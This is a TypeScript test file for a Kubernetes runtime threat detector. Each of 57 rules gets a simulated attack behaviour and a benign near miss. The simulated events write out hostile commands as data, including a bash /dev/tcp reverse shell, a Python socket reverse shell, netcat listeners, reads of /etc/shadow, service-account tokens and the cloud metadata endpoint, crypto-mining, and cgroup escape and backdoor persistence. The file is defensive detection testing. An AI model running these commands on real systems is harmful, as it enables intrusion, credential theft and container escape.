/**
 * Every bundled rule: one behaviour that must fire it and a near miss that must not.
 * Events are built as the session engine hands them over (enriched, in time order).
 */
import { describe, expect, it } from 'vitest';
import { createDetector, loadBundledRules } from './index';
import { inventoryFor, Script } from './testkit';

type Build = (s: Script) => unknown;
interface Case {
  pos: Build;
  neg: Build;
  /** Run on the host (no pod) instead of in pod shop/web-1. */
  host?: boolean;
  negHost?: boolean;
}

/** In pod shop/web-1, nginx (pid 100) runs from before the capture; `shell` = kubectl exec'd bash (pid 200). */
const shell = (s: Script) => s.exec(200, '/bin/bash', ['bash']);

const CASES: Record<string, Case> = {
  'LNT-001': { pos: shell, neg: (s) => s.exec(200, '/bin/sh', ['sh', '-c', 'cat /tmp/ready']) },
  'LNT-002': { pos: (s) => s.exec(200, '/usr/bin/id', ['id']), neg: (s) => s.exec(200, '/usr/bin/id', ['id'], 100) },
  'LNT-003': {
    pos: (s) => s.exec(300, '/bin/sh', ['sh', '-c', 'ls'], 100),
    neg: (s) => s.exec(300, '/usr/sbin/nginx', ['nginx: worker process'], 100),
  },
  'LNT-004': {
    pos: (s) => s.running(150, '/usr/lib/postgresql/16/bin/postgres').exec(300, '/bin/sh', ['sh', '-c', 'id'], 150),
    neg: (s) =>
      s
        .running(150, '/usr/lib/postgresql/16/bin/postgres')
        .exec(300, '/usr/lib/postgresql/16/bin/postgres', ['postgres: checkpointer'], 150),
  },
  'LNT-005': {
    pos: (s) =>
      shell(s)
        .exec(210, '/bin/cp', ['cp', 'x', '/opt/app/tool'], 200)
        .open(210, '/opt/app/tool', true)
        .exec(220, '/opt/app/tool', ['/opt/app/tool'], 200),
    neg: (s) => shell(s).exec(220, '/opt/app/tool', ['/opt/app/tool'], 200),
  },
  'LNT-006': {
    pos: (s) => shell(s).exec(210, '/tmp/x', ['/tmp/x'], 200),
    neg: (s) => shell(s).exec(210, '/usr/bin/x', ['x'], 200),
  },
  'LNT-007': {
    pos: (s) => shell(s).exec(210, '/bin/sh', ['sh', '/dev/shm/run.sh'], 200),
    neg: (s) => shell(s).exec(210, '/bin/sh', ['sh', '/usr/local/bin/run.sh'], 200),
  },
  'LNT-008': {
    pos: (s) =>
      shell(s)
        .exec(210, '/usr/bin/python3', ['python3', 'loader.py'], 200)
        .memfd(210, 'x')
        .exec(210, '/proc/self/fd/3', ['payload']),
    neg: (s) =>
      shell(s).exec(210, '/usr/bin/python3', ['python3', 'loader.py'], 200).exec(210, '/usr/bin/true', ['true']),
  },
  'LNT-009': {
    pos: (s) => shell(s).exec(210, '/usr/bin/apt-get', ['apt-get', 'install', '-y', 'nmap'], 200),
    neg: (s) => shell(s).exec(210, '/usr/bin/apt-get', ['apt-get', '--version'], 200),
  },
  'LNT-010': {
    pos: (s) => shell(s).exec(210, '/usr/bin/nmap', ['nmap', '-sn', '10.244.0.0/24'], 200),
    neg: (s) => shell(s).exec(210, '/usr/bin/nslookup', ['nslookup', 'web'], 200),
  },
  'LNT-011': {
    pos: (s) => shell(s).exec(210, '/bin/nc', ['nc', '10.0.0.66', '80'], 200),
    neg: (s) => s.exec(210, '/bin/nc', ['nc', '-z', 'localhost', '80']),
    negHost: true,
  },
  'LNT-012': {
    pos: (s) => shell(s).exec(210, '/usr/bin/curl', ['curl', '-O', 'http://x/a'], 200),
    neg: (s) => s.exec(210, '/usr/bin/curl', ['curl', 'http://localhost/health'], 100),
  },
  'LNT-013': {
    pos: (s) => shell(s).exec(210, '/usr/local/bin/kubectl', ['kubectl', 'get', 'pods'], 200),
    neg: (s) => s.exec(210, '/usr/local/bin/kubectl', ['kubectl', 'get', 'pods']),
    negHost: true,
  },
  'LNT-014': {
    pos: (s) =>
      shell(s)
        .exec(210, '/bin/cat', ['cat', 'token'], 200)
        .open(210, '/var/run/secrets/kubernetes.io/serviceaccount/token'),
    neg: (s) => s.open(100, '/var/run/secrets/kubernetes.io/serviceaccount/token'),
  },
  'LNT-015': {
    pos: (s) =>
      shell(s)
        .exec(210, '/bin/cat', ['cat', 'token'], 200)
        .open(210, '/var/run/secrets/kubernetes.io/serviceaccount/token')
        .wait(5)
        .exec(220, '/usr/bin/curl', ['curl', '-k', 'https://10.96.0.1/api'], 200)
        .connect(220, '10.96.0.1', 443),
    neg: (s) =>
      shell(s).exec(220, '/usr/bin/curl', ['curl', '-k', 'https://10.96.0.1/api'], 200).connect(220, '10.96.0.1', 443),
  },
  'LNT-016': {
    pos: (s) =>
      shell(s).exec(220, '/usr/bin/curl', ['curl', '-k', 'https://10.96.0.1/api'], 200).connect(220, '10.96.0.1', 443),
    neg: (s) => s.connect(100, '10.96.0.1', 443),
  },
  'LNT-017': {
    pos: (s) => shell(s).exec(210, '/bin/cat', ['cat'], 200).open(210, '/etc/kubernetes/admin.conf'),
    neg: (s) => s.running(50, '/usr/bin/kubelet').open(50, '/var/lib/kubelet/kubeconfig'),
    negHost: true,
  },
  'LNT-018': {
    pos: (s) => shell(s).exec(210, '/bin/cat', ['cat', '/etc/shadow'], 200).open(210, '/etc/shadow'),
    neg: (s) => shell(s).exec(210, '/usr/bin/passwd', ['passwd'], 200).open(210, '/etc/shadow'),
  },
  'LNT-019': {
    pos: (s) => shell(s).exec(210, '/usr/bin/find', ['find', '/', '-name', 'id_rsa'], 200),
    neg: (s) => shell(s).exec(210, '/usr/bin/find', ['find', '/var/log', '-name', '*.log'], 200),
  },
  'LNT-020': {
    pos: (s) => shell(s).exec(210, '/bin/cat', ['cat', '/proc/1/environ'], 200).open(210, '/proc/1/environ'),
    neg: (s) => s.open(100, '/proc/self/environ'),
  },
  'LNT-021': {
    pos: (s) => shell(s).exec(210, '/usr/bin/curl', ['curl'], 200).connect(210, '169.254.169.254', 80),
    neg: (s) => shell(s).exec(210, '/usr/bin/curl', ['curl'], 200).connect(210, '10.0.0.9', 80),
  },
  'LNT-022': {
    pos: (s) => s.exec(210, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.66/4444 0>&1']),
    neg: (s) => s.exec(210, '/bin/bash', ['bash', '-c', 'echo hello > /dev/null']),
  },
  'LNT-023': {
    pos: (s) => shell(s).connect(200, '10.0.0.66', 4444),
    neg: (s) => shell(s).exec(210, '/usr/bin/curl', ['curl'], 200).connect(210, '10.0.0.66', 4444),
  },
  'LNT-024': {
    pos: (s) => shell(s).exec(210, '/bin/nc', ['nc', '10.0.0.66', '4444'], 200).connect(210, '10.0.0.66', 4444),
    neg: (s) => shell(s).exec(210, '/bin/nc', ['nc', '127.0.0.1', '80'], 200).connect(210, '127.0.0.1', 80),
  },
  'LNT-025': {
    pos: (s) => shell(s).exec(210, '/bin/nc', ['nc', '-lvp', '4444'], 200).listen(210, 4444),
    neg: (s) => s.listen(100, 80),
  },
  'LNT-026': {
    pos: (s) =>
      s.exec(210, '/usr/bin/python3', [
        'python3',
        '-c',
        'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.66",4444))',
      ]),
    neg: (s) => s.exec(210, '/usr/bin/python3', ['python3', '-c', 'print(1)']),
  },
  'LNT-027': {
    pos: (s) => {
      shell(s).exec(210, '/usr/bin/python3', ['python3', 'scan.py'], 200);
      for (let p = 1; p <= 25; p++) s.connect(210, '10.244.0.20', p).wait(0.1);
    },
    neg: (s) => {
      shell(s).exec(210, '/usr/bin/python3', ['python3', 'scan.py'], 200);
      for (let p = 1; p <= 5; p++) s.connect(210, '10.244.0.20', p).wait(0.1);
    },
  },
  'LNT-028': {
    pos: (s) => {
      for (let i = 1; i <= 15; i++) s.connect(100, `10.244.1.${i}`, 80).wait(1);
    },
    neg: (s) => {
      for (let i = 1; i <= 5; i++) s.connect(100, `10.244.1.${i}`, 80).wait(1);
    },
  },
  'LNT-029': {
    pos: (s) => shell(s).exec(210, '/tmp/.x/xmrig', ['xmrig', '-o', 'pool:3333'], 200),
    neg: (s) => shell(s).exec(210, '/usr/bin/xmllint', ['xmllint', 'a.xml'], 200),
  },
  'LNT-030': { pos: (s) => s.connect(100, '198.51.100.7', 3333), neg: (s) => s.connect(100, '198.51.100.7', 443) },
  'LNT-031': { pos: (s) => s.dns(100, 'pool.supportxmr.com'), neg: (s) => s.dns(100, 'example.com') },
  'LNT-032': {
    pos: (s) => s.dns(100, 'a8f3kq9zx7w2m1p0v5b6n4c3lj.example.com'),
    neg: (s) => s.dns(100, 'api.github.com'),
  },
  'LNT-033': { pos: (s) => s.dns(100, 'abc123.ngrok.io'), neg: (s) => s.dns(100, 'ngrok.io.example.com') },
  'LNT-034': {
    pos: (s) => shell(s).exec(210, '/bin/cp', ['cp'], 200).open(210, '/etc/resolv.conf', true),
    neg: (s) => s.open(100, '/etc/resolv.conf'),
  },
  'LNT-035': {
    pos: (s) =>
      shell(s)
        .exec(210, '/bin/cp', ['cp', 'x', '/usr/bin/ls'], 200)
        .open(210, '/usr/bin/ls', true)
        // and the drift variant: chmod +x then run, the write seen only as a directory count
        .exec(211, '/bin/chmod', ['chmod', '+x', '/usr/local/bin/implant'], 200)
        .exec(212, '/usr/local/bin/implant', ['/usr/local/bin/implant'], 200),
    neg: (s) => shell(s).exec(210, '/usr/bin/dpkg', ['dpkg', '-i', 'x.deb'], 200).open(210, '/usr/bin/ls', true),
  },
  'LNT-036': {
    pos: (s) => s.open(100, '/root/.ssh/authorized_keys', true),
    neg: (s) => s.open(100, '/root/.ssh/known_hosts'),
  },
  'LNT-037': { pos: (s) => s.open(100, '/etc/ld.so.preload', true), neg: (s) => s.open(100, '/etc/ld.so.preload') },
  'LNT-038': {
    pos: (s) => s.open(100, '/etc/cron.d/backdoor', true),
    neg: (s) => shell(s).exec(210, '/usr/bin/crontab', ['crontab', '-l'], 200),
  },
  'LNT-039': { pos: (s) => s.open(100, '/etc/sudoers.d/nopasswd', true), neg: (s) => s.open(100, '/etc/sudoers') },
  'LNT-040': {
    pos: (s) =>
      shell(s)
        .exec(210, '/bin/cp', ['cp', '/dev/null', '/root/.bash_history'], 200)
        .open(210, '/root/.bash_history', true),
    neg: (s) => shell(s).open(200, '/root/.bash_history', true),
  },
  'LNT-041': {
    pos: (s) => shell(s).exec(210, '/usr/bin/curl', ['curl'], 200).open(210, '/var/run/docker.sock', true),
    neg: (s) => s.running(50, '/usr/bin/dockerd').open(50, '/var/run/docker.sock'),
    negHost: true,
  },
  'LNT-042': { pos: (s) => s.open(100, '/proc/123/mem', true), neg: (s) => s.open(100, '/proc/123/mem') },
  'LNT-043': { pos: (s) => s.open(100, '/proc/kcore'), neg: (s) => s.open(100, '/proc/cpuinfo') },
  'LNT-044': {
    pos: (s) => shell(s).exec(210, '/usr/bin/python3', ['python3', 'inject.py'], 200).ptrace(210, 16, 100),
    neg: (s) => shell(s).exec(210, '/usr/bin/sleep', ['sleep', '3600'], 200).ptrace(210, 0, 0),
  },
  'LNT-045': {
    pos: (s) => shell(s).exec(210, '/sbin/insmod', ['insmod', 'rk.ko'], 200).module(210, 'rk'),
    neg: (s) => shell(s).exec(210, '/sbin/rmmod', ['rmmod', 'rk'], 200).module(210, 'rk', 'delete_module'),
  },
  'LNT-046': {
    pos: (s) => shell(s).exec(210, '/bin/mount', ['mount', '/dev/sda1', '/mnt'], 200).mount(210, '/dev/sda1', '/mnt'),
    neg: (s) => s.running(50, '/usr/bin/containerd').mount(50, 'overlay', '/run/containerd/x', 'overlay'),
    negHost: true,
  },
  'LNT-047': {
    pos: (s) => shell(s).exec(210, '/usr/bin/python3', ['python3', 'x.py'], 200).ns(210, 'setns'),
    neg: (s) => s.running(50, '/usr/bin/containerd').ns(50, 'unshare'),
    negHost: true,
  },
  'LNT-048': {
    pos: (s) => shell(s).exec(210, '/usr/bin/python3', ['python3', 'x.py'], 200).bpf(210),
    neg: (s) => s.running(50, '/usr/sbin/cilium-agent').bpf(50),
    negHost: true,
  },
  'LNT-049': {
    pos: (s) => s.running(300, '/app/server', ['/app/server'], 1000).setuid(300, 0),
    neg: (s) => s.running(300, '/usr/bin/sudo', ['sudo', 'id'], 1000).setuid(300, 0),
  },
  'LNT-050': {
    pos: (s) =>
      shell(s)
        .exec(210, '/bin/sh', ['sh', '-c', 'echo /x > release_agent'], 200)
        .open(210, '/sys/fs/cgroup/rdma/x/release_agent', true),
    neg: (s) => s.open(100, '/sys/fs/cgroup/rdma/x/release_agent'),
  },
  'LNT-051': {
    pos: (s) => s.open(100, '/proc/sys/kernel/core_pattern', true),
    neg: (s) => s.open(100, '/proc/sys/kernel/core_pattern'),
  },
  'LNT-052': {
    pos: (s) => s.open(100, '/proc/sys/net/ipv4/ip_forward', true),
    neg: (s) => s.running(50, '/usr/bin/kube-proxy').open(50, '/proc/sys/net/ipv4/ip_forward', true),
    negHost: true,
  },
  'LNT-053': {
    pos: (s) => shell(s).exec(210, '/bin/chmod', ['chmod', 'u+s', '/tmp/x'], 200),
    neg: (s) => shell(s).exec(210, '/bin/chmod', ['chmod', '755', '/tmp/x'], 200),
  },
  'LNT-054': {
    pos: (s) => shell(s).exec(210, '/usr/bin/base64', ['base64', '-d', 'p.b64'], 200),
    neg: (s) => shell(s).exec(210, '/usr/bin/base64', ['base64', 'file'], 200),
  },
  'LNT-055': {
    pos: (s) => shell(s).exec(210, '/usr/bin/shred', ['shred', '-u', 'x'], 200),
    neg: (s) => shell(s).exec(210, '/bin/rm', ['rm', 'x'], 200),
  },
  'LNT-056': {
    pos: (s) => shell(s).exec(210, '/bin/ln', ['ln', '-s', '/etc/shadow', '/tmp/s'], 200),
    neg: (s) => shell(s).exec(210, '/bin/ln', ['ln', '-s', '/etc/hosts', '/tmp/h'], 200),
  },
  'LNT-057': {
    pos: (s) => shell(s).exec(210, '/usr/bin/pkexec', [], 200, 1000),
    neg: (s) => shell(s).exec(210, '/usr/bin/pkexec', ['pkexec', 'ls'], 200, 1000),
  },
};

function run(build: Build, host: boolean) {
  const s = host ? new Script() : new Script({ name: 'web-1', workload: 'web' });
  if (!host) s.running(100, '/usr/sbin/nginx', ['nginx']);
  build(s);
  const d = createDetector({ inventory: inventoryFor([s]), methods: { peers: false, rarity: false, baseline: false } });
  d.ingest(s.events, 0);
  d.finish();
  return d.findings();
}

describe('bundled rule pack', () => {
  const pack = loadBundledRules();

  it('has at least 30 rules, each with id, severity, ATT&CK technique, description and a test case', () => {
    expect(pack.rules.length).toBeGreaterThanOrEqual(30);
    for (const r of pack.rules) {
      expect(r.technique).toMatch(/^T\d{4}(\.\d{3})?$/);
      expect(r.description.length).toBeGreaterThan(20);
      expect(CASES[r.id], `rule ${r.id} has no positive/negative test`).toBeDefined();
    }
  });

  for (const [id, c] of Object.entries(CASES)) {
    it(`${id} fires on its behaviour and not on the near miss`, () => {
      const pos = run(c.pos, c.host ?? false);
      const hit = pos.find((f) => f.ruleId === id);
      expect(hit, `${id} did not fire; got ${pos.map((f) => f.ruleId).join(', ')}`).toBeDefined();
      expect(hit!.method).toBe('rule');
      expect(hit!.technique).toBe(pack.rules.find((r) => r.id === id)!.technique);
      // The explanation is words about this event, not a template with holes.
      expect(hit!.explanation).not.toMatch(/\{[a-z.]+\}/);
      expect(hit!.evidence.events.length).toBeGreaterThan(0);
      expect(hit!.evidence.nodes.some((n) => n.startsWith('proc:'))).toBe(true);
      const neg = run(c.neg, c.negHost ?? c.host ?? false);
      expect(
        neg.filter((f) => f.ruleId === id).map((f) => f.explanation),
        `${id} fired on the near miss`,
      ).toEqual([]);
    });
  }
});
